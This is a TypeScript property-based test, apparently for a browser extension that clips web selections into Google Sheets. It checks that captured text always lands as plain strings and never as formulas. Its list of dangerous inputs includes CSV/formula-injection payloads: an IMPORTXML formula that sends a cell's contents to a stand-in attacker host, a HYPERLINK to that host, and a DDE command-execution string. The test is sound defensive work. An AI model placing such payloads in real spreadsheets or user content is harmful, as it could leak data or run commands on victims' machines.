import * as fc from 'fast-check'
import { parseHTML } from 'linkedom'
import { expect, it } from 'vitest'
import { z } from 'zod'
import { captureSelection } from '#extension/capture/index.ts'
import { requestFor } from '#extension/outbox/request.ts'
import { clip } from '#test/extension/lib/fixtures.ts'
import { setUpSending } from './set-up.ts'

/** What Sheets would take for a formula, were it typed in, and what pages and people have made of that. */
const DANGEROUS = [
  '=1+1',
  '=IMPORTXML("https://evil.example/?"&A1,"//a")',
  '=HYPERLINK("https://evil.example/","Click")',
  '+1+2',
  '+A1',
  '-1+2',
  '-A1*2',
  '@SUM(1,2)',
  "'=1+1",
  '\t=1+1',
  '＝1+1',
  '{=1+1}',
  '=cmd|" /C calc"!A0',
]
const dangerous = fc.oneof(
  fc.constantFrom(...DANGEROUS),
  fc
    .tuple(fc.constantFrom('=', '+', '-', '@'), fc.string({ unit: 'grapheme', maxLength: 20 }))
    .map((parts) => parts.join('')),
)

const cellData = z.object({
  userEnteredValue: z.optional(z.record(z.string(), z.unknown())),
})
const answer = z.object({
  sheets: z.array(
    z.object({
      data: z.array(
        z.object({
          rowData: z.optional(z.array(z.object({ values: z.optional(z.array(cellData)) }))),
        }),
      ),
    }),
  ),
})

/** From a page through the extension and the server into Google: every cell that was written. */
it('what is selected never becomes a formula, whatever a page or a template makes of it', async () => {
  const { post, direct, spreadsheetId, chosen } = await setUpSending()
  const texts = fc.sample(dangerous, { numRuns: 120, seed: 5 })
  const { document } = parseHTML('<!doctype html><html><body></body></html>')
  const element = (tag: string, text: string) =>
    Object.assign(document.createElement(tag), { textContent: text })
  const table = document.createElement('table')
  for (const text of [...DANGEROUS, ...texts]) {
    const row = document.createElement('tr')
    const link = Object.assign(element('a', text), { href: 'https://example.com/' })
    const cell = document.createElement('td')
    cell.append(link)
    row.append(element('td', text), cell, element('th', text))
    table.append(row)
  }
  const list = document.createElement('ul')
  for (const text of DANGEROUS) list.append(element('li', text))

  const templates = ['{{selection}}', '{{title}}', '={{selection}}', '+{{url}}']
  const columns = chosen.columns.map((column, at) => ({
    ...column,
    template: templates[at % templates.length] ?? '',
  }))
  const clips = [
    { ...clip(''), ...captureSelection(table), title: '=1+1' },
    { ...clip(''), ...captureSelection(list), title: '@SUM(1)' },
    ...DANGEROUS.map((text) => ({
      ...clip(''),
      ...captureSelection(element('p', text)),
      title: `=${text}`,
    })),
  ]
  for (const one of clips) {
    const response = await post(requestFor(crypto.randomUUID(), one, { ...chosen, columns }, false))
    expect(response.status).toBe(200)
  }

  // One that a person writes themselves, to see that formulas would be found.
  await direct.api(
    'PUT',
    `/v4/spreadsheets/${spreadsheetId}/values/J1?valueInputOption=USER_ENTERED`,
    { values: [['=40+2']] },
  )
  const path = `/v4/spreadsheets/${spreadsheetId}?includeGridData=true&fields=sheets.data.rowData.values.userEnteredValue`
  const { sheets } = answer.parse(await direct.api('GET', path))
  const cells = sheets
    .flatMap(({ data }) => data)
    .flatMap(({ rowData = [] }) => rowData)
    .flatMap(({ values = [] }) => values)
    .flatMap(({ userEnteredValue }) => (userEnteredValue ? [userEnteredValue] : []))
  expect(cells.filter((value) => 'formulaValue' in value)).toEqual([{ formulaValue: '=40+2' }])
  const strings = cells.flatMap(({ stringValue }) =>
    typeof stringValue === 'string' ? [stringValue] : [],
  )
  expect(strings).toContain('=1+1')
  expect(strings.filter((text) => /^[=+\-@]/.test(text)).length).toBeGreaterThan(300)
})
